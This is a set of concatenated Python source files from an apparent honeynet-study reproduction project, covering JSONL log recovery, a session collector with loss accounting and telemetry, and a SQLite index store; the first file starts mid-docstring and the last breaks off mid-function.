    checksum, bad schema version, malformed record, or a sequence number
    the manifest promised but nothing carries — is appended to the
    quarantine store with provenance.  ``quarantine=None`` scans without
    writing anything (used by ``repro verify``).
    """
    path = Path(path)
    store: QuarantineStore | None = None
    if isinstance(quarantine, QuarantineStore):
        store = quarantine
    elif quarantine is not None:
        store = QuarantineStore(quarantine)

    report = RecoveryReport(path=str(path))
    try:
        expected = read_manifest(path)
    except ManifestError:
        expected = None  # noted via manifest_match=None; data still recovered
    if expected is not None:
        report.manifest_lines = expected.lines

    bad: list[tuple[int, str, str]] = []  # (line_number, reason, raw)
    kept: list[tuple[int | None, SessionRecord]] = []  # (seq, record)
    text = path.read_text(encoding="utf-8")
    raw_lines = text.split("\n")
    if raw_lines and raw_lines[-1] == "":
        raw_lines.pop()
    report.physical_lines = len(raw_lines)
    for line_number, raw in enumerate(raw_lines, start=1):
        if not raw.strip():
            report.blank_lines += 1
            continue
        reason: str | None = None
        payload = None
        try:
            payload = json.loads(raw)
        except json.JSONDecodeError:
            reason = "invalid-json"
        if reason is None and not isinstance(payload, dict):
            reason = "invalid-json"
        record = None
        if reason is None:
            try:
                record = session_from_dict(payload)
            except SessionLogError as error:
                reason = error.reason or "malformed-record"
        if reason is not None:
            bad.append((line_number, reason, raw))
            continue
        sequence = payload.get(SEQ_KEY)
        kept.append((sequence if isinstance(sequence, int) else None, record))
        report.parsed += 1

    records = _order_records(kept, report)
    if expected is not None:
        seen = {seq for seq, _ in kept if seq is not None}
        report.missing_seqs = tuple(
            seq for seq in range(expected.lines) if seq not in seen
        )
        actual = file_manifest(path)
        report.manifest_match = (
            (actual.lines, actual.sha256) == (expected.lines, expected.sha256)
        )
    report.bad_lines = tuple((number, reason) for number, reason, _ in bad)
    report.recovered = len(records)

    if store is not None:
        for line_number, reason, raw in bad:
            store.add(path=path, line=line_number, reason=reason, raw=raw)
        for sequence in report.missing_seqs:
            store.add(
                path=path,
                line=None,
                seq=sequence,
                reason="missing-line",
                raw="",
            )
    telemetry.count("integrity.recovered_records", report.recovered)
    if report.duplicates:
        telemetry.count("integrity.recovered_duplicates", report.duplicates)
    if report.reordered:
        telemetry.count("integrity.recovered_reordered", report.reordered)
    if report.lost:
        telemetry.count("integrity.lost_records", report.lost)
    return RecoveredLog(records=records, report=report, quarantine=store)


def _order_records(
    kept: list[tuple[int | None, SessionRecord]], report: RecoveryReport
) -> list[SessionRecord]:
    """Dedup and re-sort surviving records, updating the report."""
    if kept and all(seq is not None for seq, _ in kept):
        by_seq: dict[int, SessionRecord] = {}
        previous = -1
        for seq, record in kept:
            if seq < previous:
                report.reordered += 1
            previous = max(previous, seq)
            if seq in by_seq:
                report.duplicates += 1
            else:
                by_seq[seq] = record
        return [by_seq[seq] for seq in sorted(by_seq)]
    # Legacy lines without sequence numbers: keep file order, dedup by
    # session id (the collector's identity key).
    seen_ids: set[str] = set()
    records: list[SessionRecord] = []
    for _, record in kept:
        if record.session_id in seen_ids:
            report.duplicates += 1
            continue
        seen_ids.add(record.session_id)
        records.append(record)
    return records


def collector_accounting_for_recovery(report: RecoveryReport) -> dict[str, int]:
    """Conservation-law counters for a collector restored from a recovery.

    Treats the written file as the generation boundary: every line the
    writer meant to persist is either recovered, deduplicated, or
    quarantined (mangled lines and missing lines both count as
    quarantined losses), so

        generated == stored + deduplicated + quarantined

    balances by construction.
    """
    lost = report.lost
    return {
        "generated": report.recovered + report.duplicates + lost,
        "dropped_outage": 0,
        "dropped_sensor_down": 0,
        "retried": 0,
        "deduplicated": report.duplicates,
        "dead_lettered": 0,
        "quarantined": lost,
    }


__all__ = [
    "Manifest",
    "RecoveredLog",
    "RecoveryReport",
    "SCHEMA_VERSION",
    "SEQ_KEY",
    "SessionLogError",
    "collector_accounting_for_recovery",
    "iter_jsonl",
    "read_jsonl",
    "recover_jsonl",
    "session_from_dict",
    "session_to_dict",
    "write_jsonl",
]
