"""Central collector: every closed session is forwarded here.

Models the honeynet's collection pipeline (paper section 3.2) including
the one 48-hour maintenance outage (October 8-9, 2023) during which no
sessions were recorded.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from datetime import date

from repro.config import OUTAGE_END, OUTAGE_START
from repro.honeypot.session import SessionRecord
from repro.util.timeutils import epoch_date


@dataclass(frozen=True)
class OutageWindow:
    """An interval (inclusive dates) with no data collection."""

    start: date
    end: date

    def covers(self, day: date) -> bool:
        return self.start <= day <= self.end


@dataclass
class Collector:
    """Accepts session records and applies collection-side effects."""

    outages: tuple[OutageWindow, ...] = (
        OutageWindow(OUTAGE_START, OUTAGE_END),
    )
    sessions: list[SessionRecord] = field(default_factory=list)
    dropped: int = 0

    def ingest(self, record: SessionRecord) -> bool:
        """Store a record; returns False if it fell into an outage."""
        day = epoch_date(record.start)
        if any(outage.covers(day) for outage in self.outages):
            self.dropped += 1
            return False
        self.sessions.append(record)
        return True

    def ingest_many(self, records: list[SessionRecord]) -> int:
        """Ingest a batch; returns how many were stored."""
        stored = 0
        for record in records:
            if self.ingest(record):
                stored += 1
        return stored
