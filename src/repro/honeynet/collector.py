"""Central collector: every closed session is forwarded here.

Models the honeynet's collection pipeline (paper section 3.2).  The
collector is the terminal store of the delivery path: it applies the
fleet-wide outage windows (the paper's 48-hour October 2023 maintenance
window by default), drops records from sensors the fault plan has taken
down, deduplicates at-least-once redeliveries by session id, and keeps
the dead letters of records the transport could not deliver.

Every record offered to the collection boundary ends in exactly one
bucket, so the accounting identity

    generated == stored + dropped_outage + dropped_sensor_down
                 + dead_lettered + deduplicated + quarantined + shed

holds at all times (:meth:`Collector.accounting_balanced`).  The
``quarantined`` bucket is always zero during simulation — it exists for
collectors restored from recovered artifacts
(:func:`repro.honeynet.io.recover_jsonl`), where records lost to
on-disk corruption must still balance the books.  The ``shed`` bucket
is filled only when an admission gate is attached
(:mod:`repro.overload.admission`); ``admitted`` and ``deferred`` are
*event* counters along the way to a terminal bucket, not buckets
themselves — a deferred record is admitted when the day drains, so it
still ends up stored (or deduplicated).
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import TYPE_CHECKING, Iterable

from repro import telemetry
from repro.faults.plan import PAPER_OUTAGE, OutageWindow
from repro.honeypot.session import SessionRecord
from repro.overload.admission import ADMIT, DEFER, AdmissionController
from repro.util.timeutils import epoch_ordinal

if TYPE_CHECKING:
    from repro.honeynet.columnar import ColumnBatch

#: Drop reasons understood by :meth:`Collector.record_drop`.
DROP_OUTAGE = "outage"
DROP_SENSOR_DOWN = "sensor_down"


@dataclass
class Collector:
    """Accepts session records and applies collection-side effects."""

    outages: tuple[OutageWindow, ...] = (PAPER_OUTAGE,)
    #: ``(honeypot_id, day ordinal)`` pairs on which the sensor was down
    #: (from the compiled :class:`~repro.faults.plan.FaultPlan`).
    sensor_down_days: frozenset[tuple[str, int]] = frozenset()
    sessions: list[SessionRecord] = field(default_factory=list)
    dead_letters: list[SessionRecord] = field(default_factory=list)
    generated: int = 0
    dropped_outage: int = 0
    dropped_sensor_down: int = 0
    retried: int = 0
    deduplicated: int = 0
    dead_lettered: int = 0
    #: Records lost to on-disk corruption, accounted by the quarantine
    #: store (always 0 for live simulation runs).
    quarantined: int = 0
    #: Admission-gate counters (all 0 when no gate is attached).
    #: ``shed`` is a terminal bucket in the conservation law; ``admitted``
    #: and ``deferred`` count gate events on the way to other buckets.
    admitted: int = 0
    shed: int = 0
    deferred: int = 0
    #: The bounded-ingest gate, or None for an unbounded collector.
    admission: AdmissionController | None = None
    #: Outage windows precomputed as inclusive ordinal ranges so the
    #: per-record check is integer comparisons, not date construction.
    _outage_ordinals: tuple[tuple[int, int], ...] = field(
        init=False, repr=False, default=()
    )
    _seen_ids: set[str] = field(init=False, repr=False, default_factory=set)
    #: Telemetry snapshot: counter values already emitted to the active
    #: registry.  The hot path records nothing; :meth:`flush_telemetry`
    #: emits the *delta* since this snapshot at batch (day) granularity.
    _flushed: dict[str, int] = field(
        init=False, repr=False, default_factory=dict
    )

    def __post_init__(self) -> None:
        self._outage_ordinals = tuple(
            window.ordinals() for window in self.outages
        )
        self._seen_ids = {record.session_id for record in self.sessions}
        # Pre-seeded state was never offered through this collector's
        # hot path, so it must not be re-counted on the first flush.
        self._mark_telemetry_flushed()

    # ------------------------------------------------------------------
    # delivery primitives (used by the transport channel)
    # ------------------------------------------------------------------
    def drop_reason(self, record: SessionRecord) -> str | None:
        """Why this record cannot be collected right now, if at all."""
        ordinal = epoch_ordinal(record.start)
        for start, end in self._outage_ordinals:
            if start <= ordinal <= end:
                return DROP_OUTAGE
        if (record.honeypot_id, ordinal) in self.sensor_down_days:
            return DROP_SENSOR_DOWN
        return None

    def record_drop(self, reason: str) -> None:
        """Account one dropped record under ``reason``."""
        if reason == DROP_OUTAGE:
            self.dropped_outage += 1
        elif reason == DROP_SENSOR_DOWN:
            self.dropped_sensor_down += 1
        else:
            raise ValueError(f"unknown drop reason: {reason!r}")

    def accept(self, record: SessionRecord) -> bool:
        """Store a delivered record; False if it is a duplicate."""
        if record.session_id in self._seen_ids:
            self.deduplicated += 1
            return False
        self._seen_ids.add(record.session_id)
        self.sessions.append(record)
        return True

    def admit(self, record: SessionRecord) -> bool:
        """Offer a delivered record to the admission gate, then store it.

        With no gate attached this is exactly :meth:`accept`.  With a
        gate, the verdict routes the record: admitted records are
        stored (or deduplicated), deferred records wait in the gate's
        queues until :meth:`end_of_day`, shed records are dropped and
        accounted in the ``shed`` bucket.  Returns True iff stored now.
        """
        if self.admission is None:
            return self.accept(record)
        verdict = self.admission.offer(record)
        if verdict == ADMIT:
            self.admitted += 1
            return self.accept(record)
        if verdict == DEFER:
            self.deferred += 1
            return False
        self.shed += 1
        return False

    def end_of_day(self) -> int:
        """Close a simulated day: drain the admission gate, flush telemetry.

        Every deferred record is admitted (deferral delays, it never
        loses), and the gate's daily budget resets; without a gate the
        drain is skipped entirely — a flood-off day boundary performs
        zero admission bookkeeping.  Day boundaries are also where the
        hot path's accounting reaches the telemetry registry
        (:meth:`flush_telemetry`): counters are batch-granular by
        design, so per-record instrumentation costs nothing.  Returns
        how many drained records were stored.
        """
        stored = 0
        if self.admission is not None:
            for record in self.admission.drain():
                self.admitted += 1
                if self.accept(record):
                    stored += 1
        self.flush_telemetry()
        return stored

    def dead_letter(self, record: SessionRecord) -> None:
        """Park a record the transport permanently failed to deliver."""
        self.dead_letters.append(record)
        self.dead_lettered += 1

    # ------------------------------------------------------------------
    # the lossless delivery path (paper profile / direct ingestion)
    # ------------------------------------------------------------------
    def ingest(self, record: SessionRecord) -> bool:
        """Deliver one record losslessly; returns True iff stored."""
        self.generated += 1
        reason = self.drop_reason(record)
        if reason is not None:
            self.record_drop(reason)
            return False
        return self.admit(record)

    def ingest_many(self, records: Iterable[SessionRecord]) -> int:
        """Ingest a batch (any iterable); returns how many were stored."""
        ingest = self.ingest
        stored = 0
        for record in records:
            if ingest(record):
                stored += 1
        return stored

    # ------------------------------------------------------------------
    # batch-granularity telemetry
    # ------------------------------------------------------------------
    def _telemetry_state(self) -> tuple[tuple[str, int], ...]:
        """Current counter values under their metric names.

        ``overload.*`` names appear only while an admission gate is
        attached, so flood-off runs never emit (or even name) overload
        metrics — the differential suite pins that.
        """
        state = (
            ("collector.offered", self.generated),
            ("collector.stored", len(self.sessions)),
            ("collector.deduplicated", self.deduplicated),
            ("collector.dropped.outage", self.dropped_outage),
            ("collector.dropped.sensor_down", self.dropped_sensor_down),
            ("collector.dead_lettered", self.dead_lettered),
        )
        if self.admission is None:
            return state
        return state + (
            ("overload.admitted", self.admitted),
            ("overload.shed", self.shed),
            ("overload.deferred", self.deferred),
        )

    def flush_telemetry(self) -> None:
        """Emit counter deltas since the last flush to the registry.

        The final registry totals equal what per-record instrumentation
        would have produced — the differential telemetry suite compares
        serial and merged-parallel registries exactly — but the hot
        path pays one dictionary update per *day*, not per record.
        No-op while telemetry is disabled (the snapshot then tracks the
        would-have-been-flushed values so a later enable never
        re-counts history).
        """
        registry = telemetry.active()
        flushed = self._flushed
        for name, current in self._telemetry_state():
            delta = current - flushed.get(name, 0)
            if delta:
                if registry is not None:
                    registry.count(name, delta)
                flushed[name] = current

    def _mark_telemetry_flushed(self) -> None:
        """Advance the snapshot without emitting anything.

        Used when counters change by means that were already accounted
        elsewhere: checkpoint restores (the originating run counted
        them) and shard absorption (the shard's own registry counted
        them and is merged separately).
        """
        for name, current in self._telemetry_state():
            self._flushed[name] = current

    # ------------------------------------------------------------------
    # accounting
    # ------------------------------------------------------------------
    @property
    def dropped(self) -> int:
        """Total records lost to outages or sensor downtime."""
        return self.dropped_outage + self.dropped_sensor_down

    def accounting(self) -> dict[str, int]:
        """Every counter plus the stored total, for reports and tests."""
        return {
            "generated": self.generated,
            "stored": len(self.sessions),
            "dropped_outage": self.dropped_outage,
            "dropped_sensor_down": self.dropped_sensor_down,
            "retried": self.retried,
            "deduplicated": self.deduplicated,
            "dead_lettered": self.dead_lettered,
            "quarantined": self.quarantined,
            "admitted": self.admitted,
            "shed": self.shed,
            "deferred": self.deferred,
        }

    def accounting_balanced(self) -> bool:
        """Check the conservation law over the collection boundary."""
        return self.generated == (
            len(self.sessions)
            + self.dropped_outage
            + self.dropped_sensor_down
            + self.dead_lettered
            + self.deduplicated
            + self.quarantined
            + self.shed
        )

    def absorb(
        self,
        sessions: Iterable[SessionRecord],
        dead_letters: Iterable[SessionRecord],
        counters: dict[str, int],
    ) -> None:
        """Merge one shard-local collector's state into this one.

        Used by :mod:`repro.parallel.engine`: shard collectors are
        merged in shard (chronological) order, so appending reproduces
        the serial ingestion order and summing the counters reproduces
        the serial accounting — every per-record effect (drop, dedup,
        dead-letter) already happened inside the shard.
        """
        absorbed = len(self.sessions)
        self.sessions.extend(sessions)
        new_sessions = self.sessions[absorbed:]
        self._seen_ids.update(record.session_id for record in new_sessions)
        absorbed = len(self.sessions) - absorbed
        dead = len(self.dead_letters)
        self.dead_letters.extend(dead_letters)
        self._absorb_bookkeeping(absorbed, len(self.dead_letters) - dead, counters)

    def absorb_batch(
        self,
        sessions: "ColumnBatch",
        dead_letters: "ColumnBatch",
        counters: dict[str, int],
    ) -> None:
        """Merge a shard's columnar output (:mod:`repro.honeynet.columnar`).

        The vectorized twin of :meth:`absorb`: the shard shipped compact
        column buffers over IPC, so decode them in bulk here — session
        ids come straight off the id column (one buffer decode) rather
        than attribute lookups on freshly built records.
        """
        records = sessions.to_records()
        self.sessions.extend(records)
        self._seen_ids.update(sessions.session_ids())
        dead = dead_letters.to_records()
        self.dead_letters.extend(dead)
        self._absorb_bookkeeping(len(records), len(dead), counters)

    def _absorb_bookkeeping(
        self, absorbed: int, dead: int, counters: dict[str, int]
    ) -> None:
        """Merge-only telemetry + counter sums shared by both absorb paths.

        The shard's own registry already counted every per-record effect
        (and is merged separately by the engine), so the snapshot is
        advanced without emitting — only the engine-shaped
        ``collector.absorb.*`` marks are recorded, and those carry a
        merge-only prefix (see :func:`repro.telemetry.comparable_view`).
        """
        registry = telemetry.active()
        if registry is not None:
            registry.count("collector.absorb.batches")
            registry.count("collector.absorb.sessions", absorbed)
            registry.count("collector.absorb.dead_letters", dead)
        self.generated += counters.get("generated", 0)
        self.dropped_outage += counters.get("dropped_outage", 0)
        self.dropped_sensor_down += counters.get("dropped_sensor_down", 0)
        self.retried += counters.get("retried", 0)
        self.deduplicated += counters.get("deduplicated", 0)
        self.dead_lettered += counters.get("dead_lettered", 0)
        self.quarantined += counters.get("quarantined", 0)
        self.admitted += counters.get("admitted", 0)
        self.shed += counters.get("shed", 0)
        self.deferred += counters.get("deferred", 0)
        self._mark_telemetry_flushed()

    def restore(
        self,
        sessions: Iterable[SessionRecord],
        dead_letters: Iterable[SessionRecord],
        counters: dict[str, int],
    ) -> None:
        """Reset state from a checkpoint (see :mod:`repro.faults.checkpoint`)."""
        self.sessions = list(sessions)
        self.dead_letters = list(dead_letters)
        self._seen_ids = {record.session_id for record in self.sessions}
        self.generated = counters.get("generated", 0)
        self.dropped_outage = counters.get("dropped_outage", 0)
        self.dropped_sensor_down = counters.get("dropped_sensor_down", 0)
        self.retried = counters.get("retried", 0)
        self.deduplicated = counters.get("deduplicated", 0)
        self.dead_lettered = counters.get("dead_lettered", 0)
        self.quarantined = counters.get("quarantined", 0)
        self.admitted = counters.get("admitted", 0)
        self.shed = counters.get("shed", 0)
        self.deferred = counters.get("deferred", 0)
        # Restored counters were already emitted by the run that wrote
        # the checkpoint; re-seed the snapshot so they aren't re-counted.
        self._flushed = {}
        self._mark_telemetry_flushed()
