"""Honeynet fleet: deployment, central collector, session database."""

from repro.honeynet.collector import Collector, OutageWindow
from repro.honeynet.database import SessionDatabase
from repro.honeynet.deployment import Honeynet, deploy_honeynet

__all__ = [
    "Collector",
    "OutageWindow",
    "SessionDatabase",
    "Honeynet",
    "deploy_honeynet",
]
