"""The SQLite backend: WAL reads, single-writer atomic builds.

The index is one SQLite file with two tables:

* ``sessions`` — one :class:`~repro.store.base.IndexRow` per record,
  with a covering b-tree index per queryable column;
* ``store_meta`` — key/value self-description
  (:class:`~repro.store.base.StoreMeta`): schema version, config
  fingerprint, content digest, record count.

Writes happen exactly once, at build time, in a single transaction
against a temp file that is fsync'ed and renamed into place — the same
atomic-write discipline as every other artifact
(:mod:`repro.util.fsio`), so a killed build leaves either the previous
index intact or the new one complete.  The file is switched to WAL
journal mode before the rename so subsequent readers never block each
other.  After the build the store is append-closed: there is no update
path, only rebuild-from-shards
(:func:`repro.store.builder.rebuild_index`).

Every backend failure (unreadable file, failed ``quick_check``,
missing or foreign meta) is normalized to
:class:`~repro.store.base.StoreError` /
:class:`~repro.store.base.StaleIndexError` — callers never see raw
``sqlite3`` exceptions.
"""

from __future__ import annotations

import os
import sqlite3
from pathlib import Path
from typing import Iterable, Sequence

from repro import telemetry
from repro.store.base import (
    INDEX_COLUMNS,
    STORE_SCHEMA_VERSION,
    ArtifactStore,
    IndexRow,
    StaleIndexError,
    StoreError,
    StoreMeta,
    normalize_filters,
)

#: Columns ``distinct`` / ``count_by`` may group on.
_GROUPABLE = INDEX_COLUMNS + ("session_id", "source")

_SCHEMA = f"""
CREATE TABLE store_meta (
    key   TEXT PRIMARY KEY,
    value TEXT NOT NULL
);
CREATE TABLE sessions (
    session_id   TEXT PRIMARY KEY,
    day          TEXT NOT NULL,
    sensor_id    TEXT NOT NULL,
    client_ip    TEXT NOT NULL,
    session_hash TEXT NOT NULL,
    protocol     TEXT NOT NULL,
    rule_label   TEXT NOT NULL,
    source       TEXT NOT NULL,
    seq          INTEGER NOT NULL
);
{chr(10).join(
    f"CREATE INDEX idx_sessions_{column} ON sessions ({column});"
    for column in INDEX_COLUMNS
)}
"""


def _fsync_path(path: Path) -> None:
    descriptor = os.open(path, os.O_RDONLY)
    try:
        os.fsync(descriptor)
    finally:
        os.close(descriptor)


class SqliteStore(ArtifactStore):
    """A read-only view over one built index file."""

    def __init__(self, path: Path, connection: sqlite3.Connection) -> None:
        self.path = path
        self._connection = connection
        self._meta: StoreMeta | None = None

    # -- construction --------------------------------------------------

    @classmethod
    def build(
        cls, path: Path | str, rows: Sequence[IndexRow], meta: StoreMeta
    ) -> "SqliteStore":
        """Build the index atomically at ``path`` and open it.

        The whole build is one transaction against ``<path>.tmp``; only
        a complete, WAL-mode file is ever renamed over ``path``.
        """
        path = Path(path)
        path.parent.mkdir(parents=True, exist_ok=True)
        temp = path.with_name(path.name + ".tmp")
        temp.unlink(missing_ok=True)
        with telemetry.span("store.build"):
            connection = sqlite3.connect(temp)
            try:
                connection.executescript(_SCHEMA)
                with connection:
                    connection.executemany(
                        "INSERT INTO sessions VALUES (?,?,?,?,?,?,?,?,?)",
                        (
                            (
                                row.session_id, row.day, row.sensor_id,
                                row.client_ip, row.session_hash, row.protocol,
                                row.rule_label, row.source, row.seq,
                            )
                            for row in rows
                        ),
                    )
                    connection.executemany(
                        "INSERT INTO store_meta VALUES (?, ?)",
                        [
                            ("schema_version", str(meta.schema_version)),
                            ("config_fingerprint", meta.config_fingerprint),
                            ("content_digest", meta.content_digest),
                            ("record_count", str(meta.record_count)),
                        ],
                    )
                # Persist WAL journal mode in the file header so readers
                # of the final file get concurrent non-blocking reads.
                connection.execute("PRAGMA journal_mode=WAL")
            finally:
                connection.close()
            _fsync_path(temp)
            os.replace(temp, path)
        telemetry.count("store.builds")
        telemetry.count("store.build.rows", len(rows))
        return cls.open(path)

    @classmethod
    def open(
        cls,
        path: Path | str,
        *,
        expected_fingerprint: str | None = None,
        expected_digest: str | None = None,
        read_only: bool = False,
    ) -> "SqliteStore":
        """Open and vet an existing index before first use.

        Runs SQLite's ``quick_check``, requires a supported schema
        version, and — when the caller knows what the index *should*
        describe — compares the stored config fingerprint and content
        digest, raising :class:`StaleIndexError` on mismatch.  An index
        that fails any gate is never queried.

        ``read_only=True`` opens through a ``mode=ro`` URI: the
        connection can never write, so any number of concurrent readers
        (the query service's snapshot queries, a live dashboard) share
        the file with WAL semantics while a rebuild publishes a new
        index via temp+rename next to them — an open reader keeps
        answering from the inode it holds.
        """
        path = Path(path)
        if not path.exists():
            raise StoreError("no such index", path=path, reason="absent")
        try:
            if read_only:
                connection = sqlite3.connect(
                    f"file:{path}?mode=ro", uri=True
                )
            else:
                connection = sqlite3.connect(path)
        except sqlite3.Error as error:  # pragma: no cover - connect rarely fails
            raise StoreError(
                f"cannot open index: {error}", path=path, reason="unreadable"
            ) from error
        store = cls(path, connection)
        try:
            verdict = connection.execute("PRAGMA quick_check").fetchone()
            if verdict is None or verdict[0] != "ok":
                raise StoreError(
                    f"integrity check failed: {verdict and verdict[0]}",
                    path=path,
                    reason="integrity-check-failed",
                )
            meta = store.meta()
        except sqlite3.Error as error:
            connection.close()
            raise StoreError(
                f"unreadable index: {error}", path=path, reason="unreadable"
            ) from error
        except StoreError:
            connection.close()
            raise
        if meta.schema_version != STORE_SCHEMA_VERSION:
            connection.close()
            raise StoreError(
                f"unsupported index schema version {meta.schema_version} "
                f"(supported: {STORE_SCHEMA_VERSION})",
                path=path,
                reason="unsupported-schema",
            )
        # Self-check: the meta row count pins what the build inserted,
        # so silently dropped rows (a healthy-looking database that
        # desynced from its shards) are caught before the first query.
        try:
            actual_rows = connection.execute(
                "SELECT COUNT(*) FROM sessions"
            ).fetchone()[0]
        except sqlite3.Error as error:
            connection.close()
            raise StoreError(
                f"unreadable index: {error}", path=path, reason="unreadable"
            ) from error
        if actual_rows != meta.record_count:
            connection.close()
            raise StoreError(
                f"index holds {actual_rows} rows but store_meta promises "
                f"{meta.record_count} (rows dropped or foreign)",
                path=path,
                reason="row-count-mismatch",
            )
        if (
            expected_fingerprint is not None
            and meta.config_fingerprint != expected_fingerprint
        ):
            connection.close()
            raise StaleIndexError(
                "index was built for a different configuration",
                path=path,
                reason="fingerprint-mismatch",
            )
        if expected_digest is not None and meta.content_digest != expected_digest:
            connection.close()
            raise StaleIndexError(
                "index content digest does not match the expected dataset",
                path=path,
                reason="digest-mismatch",
            )
        telemetry.count("store.opens")
        return store

    # -- queries -------------------------------------------------------

    def _where(self, filters: dict) -> tuple[str, list[str]]:
        cleaned = normalize_filters(filters)
        if not cleaned:
            return "", []
        clause = " WHERE " + " AND ".join(
            f"{column} = ?" for column in sorted(cleaned)
        )
        return clause, [cleaned[column] for column in sorted(cleaned)]

    def _execute(self, query: str, parameters: list[str]):
        telemetry.count("store.queries")
        try:
            return self._connection.execute(query, parameters)
        except sqlite3.Error as error:
            raise StoreError(
                f"query failed: {error}", path=self.path, reason="query-failed"
            ) from error

    def meta(self) -> StoreMeta:
        if self._meta is None:
            try:
                pairs = dict(
                    self._connection.execute(
                        "SELECT key, value FROM store_meta"
                    ).fetchall()
                )
                self._meta = StoreMeta(
                    schema_version=int(pairs["schema_version"]),
                    config_fingerprint=pairs["config_fingerprint"],
                    content_digest=pairs["content_digest"],
                    record_count=int(pairs["record_count"]),
                )
            except (sqlite3.Error, KeyError, ValueError) as error:
                raise StoreError(
                    f"missing or corrupt store_meta: {error}",
                    path=self.path,
                    reason="meta-unreadable",
                ) from error
        return self._meta

    def count(self, **filters: object) -> int:
        clause, parameters = self._where(filters)
        cursor = self._execute(
            f"SELECT COUNT(*) FROM sessions{clause}", parameters
        )
        return int(cursor.fetchone()[0])

    def session_ids(self, **filters: object) -> list[str]:
        clause, parameters = self._where(filters)
        cursor = self._execute(
            f"SELECT session_id FROM sessions{clause} ORDER BY session_id",
            parameters,
        )
        return [row[0] for row in cursor.fetchall()]

    def rows(self, **filters: object) -> list[IndexRow]:
        clause, parameters = self._where(filters)
        cursor = self._execute(
            "SELECT session_id, day, sensor_id, client_ip, session_hash, "
            f"protocol, rule_label, source, seq FROM sessions{clause} "
            "ORDER BY source, seq",
            parameters,
        )
        return [IndexRow(*row) for row in cursor.fetchall()]

    def distinct(self, column: str, **filters: object) -> list[str]:
        self._check_column(column)
        clause, parameters = self._where(filters)
        cursor = self._execute(
            f"SELECT DISTINCT {column} FROM sessions{clause} ORDER BY {column}",
            parameters,
        )
        return [row[0] for row in cursor.fetchall()]

    def count_by(self, column: str, **filters: object) -> dict[str, int]:
        self._check_column(column)
        clause, parameters = self._where(filters)
        cursor = self._execute(
            f"SELECT {column}, COUNT(*) FROM sessions{clause} "
            f"GROUP BY {column} ORDER BY {column}",
            parameters,
        )
        return {value: count for value, count in cursor.fetchall()}

    def _check_column(self, column: str) -> None:
        if column not in _GROUPABLE:
            known = ", ".join(_GROUPABLE)
            raise ValueError(f"unknown index column {column!r} (known: {known})")

    def close(self) -> None:
        self._connection.close()


def iter_index_rows(store: SqliteStore) -> Iterable[IndexRow]:
    """All rows of an open store (the audit's row stream)."""
    return store.rows()
