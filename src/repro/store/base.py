"""The store interface and the row schema every backend indexes.

An :class:`ArtifactStore` answers the lookups the paper's longitudinal
analyses are built from — per-day, per-sensor, per-client-IP,
per-rule-label session counts and id sets — without parsing the JSONL
shards.  One :class:`IndexRow` is written per session at export time;
the row carries a content hash of the record it summarizes, so an index
row and its ground-truth record can be cross-checked artifact by
artifact (``repro verify``'s index-audit pass).

The interface is deliberately small and backend-agnostic: SQLite today
(:mod:`repro.store.sqlite`), columnar backends later, both behind the
same filters.
"""

from __future__ import annotations

import json
from abc import ABC, abstractmethod
from dataclasses import dataclass
from datetime import date
from typing import Iterable, Sequence

from repro.honeypot.session import SessionRecord
from repro.util.hashing import sha256_hex
from repro.util.timeutils import epoch_date

#: Version of the index schema (tables, columns, meta keys).  Bumped on
#: any incompatible change; an index with a different version is never
#: queried — consumers fall back to the scan path and ``repro verify
#: --rebuild-index`` rewrites it.
STORE_SCHEMA_VERSION = 1

#: Conventional index file name inside an artifact tree.
INDEX_FILE_NAME = "index.sqlite"

#: The queryable columns, in schema order (``filters`` keys).
INDEX_COLUMNS = (
    "day",
    "sensor_id",
    "client_ip",
    "session_hash",
    "protocol",
    "rule_label",
)


class StoreError(RuntimeError):
    """Raised when an index cannot be opened, read or trusted.

    Carries the offending ``path`` and a stable ``reason`` slug so the
    fallback layer and ``repro verify`` can report *why* without parsing
    the message.  Every backend failure mode — unreadable file, failed
    integrity check, unsupported schema, missing meta — surfaces as this
    (or a subclass), never as a raw backend exception.
    """

    def __init__(
        self, message: str, *, path: object = None, reason: str | None = None
    ) -> None:
        prefix = f"{path}: " if path is not None else ""
        super().__init__(f"{prefix}{message}")
        self.path = str(path) if path is not None else None
        self.reason = reason


class StaleIndexError(StoreError):
    """The index is intact but belongs to different data or config.

    Raised when ``store_meta``'s config fingerprint or content digest
    does not match what the caller expects: querying it would return
    *wrong* answers, which is worse than no answers — consumers must
    fall back to the scan path and rebuild.
    """


@dataclass(frozen=True)
class StoreMeta:
    """The self-description every index carries (``store_meta`` table)."""

    schema_version: int
    #: :func:`repro.faults.checkpoint.config_fingerprint` of the run
    #: that produced the indexed dataset, or ``""`` when unknown (e.g.
    #: an index rebuilt from shards alone).
    config_fingerprint: str
    #: Dataset digest over the indexed records —
    #: :meth:`repro.honeynet.database.SessionDatabase.digest` of exactly
    #: the sessions the rows summarize.
    content_digest: str
    record_count: int


@dataclass(frozen=True)
class IndexRow:
    """One session's queryable summary (one row per record)."""

    session_id: str
    day: str  #: UTC calendar day of the session start, ISO format
    sensor_id: str  #: the honeypot that recorded the session
    client_ip: str
    session_hash: str  #: sha256 of the record's canonical JSON
    protocol: str
    rule_label: str  #: Table-1 category (first-match-wins, 59 rules)
    source: str  #: shard file name the ground-truth record lives in
    seq: int  #: the record's sequence number within that shard


class ArtifactStore(ABC):
    """Query surface over an index of session records.

    ``filters`` accepted by the query methods are equality constraints
    on :data:`INDEX_COLUMNS` (``day`` also accepts a :class:`date`,
    ``protocol`` an enum value).  Implementations raise
    :class:`StoreError` for any backend failure — callers that must not
    crash wrap the store in
    :class:`~repro.store.resilient.ResilientArtifactStore`.
    """

    @abstractmethod
    def meta(self) -> StoreMeta:
        """The index's self-description."""

    @abstractmethod
    def count(self, **filters: object) -> int:
        """Number of indexed sessions matching ``filters``."""

    @abstractmethod
    def session_ids(self, **filters: object) -> list[str]:
        """Matching session ids, sorted (deterministic)."""

    @abstractmethod
    def rows(self, **filters: object) -> list[IndexRow]:
        """Matching rows, sorted by ``(source, seq)``."""

    @abstractmethod
    def distinct(self, column: str, **filters: object) -> list[str]:
        """Sorted distinct values of ``column`` among matching rows."""

    @abstractmethod
    def count_by(self, column: str, **filters: object) -> dict[str, int]:
        """Matching-session counts grouped by ``column``."""

    @abstractmethod
    def close(self) -> None:
        """Release backend resources (idempotent)."""

    def __enter__(self) -> "ArtifactStore":
        return self

    def __exit__(self, *exc_info: object) -> bool:
        self.close()
        return False


def normalize_filters(filters: dict) -> dict[str, str]:
    """Validate filter names and coerce values to their column strings."""
    cleaned: dict[str, str] = {}
    for name, value in filters.items():
